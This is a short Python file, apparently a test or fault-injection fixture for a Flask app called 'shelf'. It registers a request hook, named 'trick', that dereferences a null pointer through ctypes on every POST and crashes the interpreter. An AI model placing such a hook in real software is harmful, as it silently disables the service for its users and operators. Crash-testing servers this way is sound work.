"""Crashes the interpreter itself."""

import ctypes

from flask import request
from shelf import app


@app.before_request
def trick():
    if request.method == "POST":
        ctypes.string_at(0)
